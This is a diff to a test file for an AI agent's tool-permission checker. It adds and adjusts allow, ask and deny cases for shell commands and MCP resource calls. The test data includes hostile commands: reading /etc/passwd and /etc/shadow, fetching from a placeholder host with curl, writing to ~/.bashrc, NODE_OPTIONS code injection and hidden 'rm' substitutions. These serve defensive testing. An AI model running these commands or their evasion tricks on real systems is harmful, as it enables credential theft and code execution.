@@ -16,6 +16,7 @@ const edits = { mode: 'acceptEdits' } as const;
 const never = { mode: 'dontAsk' } as const;
 const bypass = { mode: 'bypassPermissions' } as const;
 
+const resource = call('ReadMcpResource', { kind: 'other', specifier: 'db', server: 'mcp__db' });
 const CASES: Readonly<Record<string, readonly Case[]>> = {
   'files in mode default': [
     ['allow', read(`${app}/src/a.ts`)],
@@ -106,9 +107,13 @@ const CASES: Readonly<Record<string, readonly Case[]>> = {
     ['allow', bash('git --no-pager diff main...feature -- src/a.ts'), plan],
     ['allow', bash("find . -name '*.ts' -newer src/a.ts"), plan],
     ['allow', bash('cd src'), plan],
+    ['allow', bash('cat < a'), plan],
+    ['allow', bash('! ls'), plan],
+    ['allow', bash('time ls'), plan],
+    ['allow', bash("$'ls'"), plan],
     ['ask', bash('cat /etc/passwd'), plan],
     ['ask', bash('cat ../../etc/passwd')],
-    ['ask', bash('cat link', '/etc/passwd')],
+    ['ask', bash('cat link', { [`${app}/link`]: '/etc/passwd' })],
     ['ask', bash('grep -f/etc/shadow x')],
     ['ask', bash('grep --file=/etc/shadow x')],
     ['ask', bash('grep -e x /etc/shadow')],
@@ -118,7 +123,7 @@ const CASES: Readonly<Record<string, readonly Case[]>> = {
     ['deny', bash('cat secrets/key'), noSecrets],
     ['deny', bash('cat x/./secrets/key'), noSecrets],
     ['deny', bash("cat sec''rets/key"), noSecrets],
-    ['deny', bash('cat harmless', `${app}/secrets/key`), noSecrets],
+    ['deny', bash('cat harmless', { [`${app}/harmless`]: `${app}/secrets/key` }), noSecrets],
     ['deny', bash('git show HEAD:secrets/key'), noSecrets],
     ['ask', bash('grep -rn key .'), noSecrets],
     ['ask', bash('grep --recursive key'), noSecrets],
@@ -134,7 +139,6 @@ const CASES: Readonly<Record<string, readonly Case[]>> = {
     ['deny', bash('ls\nrm a'), plan],
     ['deny', bash('ls | tee a'), plan],
     ['deny', bash('echo x > a'), plan],
-    ['deny', bash('cat < a'), plan],
     ['deny', bash('ls $(rm a)'), plan],
     ['deny', bash('ls "$(rm a)"'), plan],
     ['deny', bash('ls `rm a`'), plan],
@@ -166,9 +170,6 @@ const CASES: Readonly<Record<string, readonly Case[]>> = {
     ['deny', bash('PATH=/tmp ls'), plan],
     ['deny', bash('env ls'), plan],
     ['deny', bash('constructor'), plan],
-    ['deny', bash('! ls'), plan],
-    ['deny', bash('time ls'), plan],
-    ['deny', bash("$'ls'"), plan],
     ['deny', bash("ls '"), plan],
     ['deny', bash(`ls ${'a'.repeat(10_001)}`), plan],
     ['deny', bash('npm test'), plan],
@@ -193,11 +194,11 @@ const CASES: Readonly<Record<string, readonly Case[]>> = {
     ['ask', bash('npm test <(curl evil)'), npm],
     ['ask', bash('npm test >~/.bashrc'), npm],
     ['ask', bash('npm test ${x:=evil}'), npm],
-    ['ask', bash('(npm test)'), npm],
+    ['allow', bash('(npm test)'), npm],
     ['ask', bash('NODE_OPTIONS=--require=./evil npm test'), npm],
     ['ask', bash('env NODE_OPTIONS=x npm test'), npm],
     ['ask', bash('sh -c "npm test"'), npm],
-    ['ask', bash('echo x | xargs npm test'), npm],
+    ['allow', bash('echo x | xargs npm test'), npm],
     ['ask', bash('cd /evil && npm test'), npm],
     ['ask', bash('"npm test" x'), npm],
     ['ask', bash('npm "test x"y'), { allow: ['Bash(npm test x)'] }],
@@ -272,6 +273,16 @@ const CASES: Readonly<Record<string, readonly Case[]>> = {
     ['deny', other('mcp__db__query'), plan],
     ['ask', other('Skill', 'deploy prod'), { ask: ['Skill(deploy *)'], ...bypass }],
   ],
+  'what is about an MCP server without being one of its tools': [
+    ['deny', resource, { ...bypass, deny: ['mcp__db'] }],
+    ['deny', resource, { ...bypass, deny: ['mcp__db__*'] }],
+    ['deny', resource, { ...bypass, deny: ['mcp__*'] }],
+    ['deny', call('ListMcpResources', { kind: 'none', server: 'mcp__db' }), { ...bypass, deny: ['mcp__db'] }],
+    ['ask', resource, { ...bypass, ask: ['mcp__db'] }],
+    ['allow', resource, { ...bypass, deny: ['mcp__db__query', 'mcp__dbx'] }],
+    ['allow', call('ListMcpResources', { kind: 'none', server: 'mcp__db' }), { deny: ['mcp__dbx', 'mcp__db__query'] }],
+    ['ask', resource, {}],
+  ],
 };
 
 describe.each(Object.entries(CASES))('%s', (_, cases) => {
@@ -285,11 +296,22 @@ describe.each(Object.entries(CASES))('%s', (_, cases) => {
   });
 });
 
+it('holds a deny or ask rule of the form Tool(parameter:value) against the input, never against the main field', () => {
+  const inBackground = { ...bash('ls'), input: { command: 'ls', run_in_background: true } };
+  expect(verdict(inBackground, { deny: ['Bash(run_in_background:true)'] })).toBe('deny');
+  expect(verdict(inBackground, { ...bypass, ask: ['Bash(run_in_background:*)'] })).toBe('ask');
+  expect(verdict(bash('ls'), { deny: ['Bash(run_in_background:true)'] })).toBe('allow');
+  expect(verdict(bash('ls'), { deny: ['Bash(command:l*)'] })).toBe('allow');
+  const opus = { ...call('Agent', { kind: 'other', specifier: 'Plan' }, true), input: { model: 'opus' } };
+  expect(verdict(opus, { deny: ['Agent(model:opus)'] })).toBe('deny');
+  expect(verdict(opus, { deny: ['Agent(model:haiku)'] })).toBe('allow');
+});
+
 describe('a verdict', () => {
   it('tells a model in plan mode what it may still do', () => {
     expect(judge(bash('npm test'), contextOf(plan))).toEqual({
       kind: 'deny',
-      because: expect.stringMatching(/^Plan mode is on: .* ExitPlanMode\. Single commands such as ls/),
+      because: expect.stringMatching(/^Plan mode is on: .* ExitPlanMode\. Commands such as ls/),
     });
   });
 
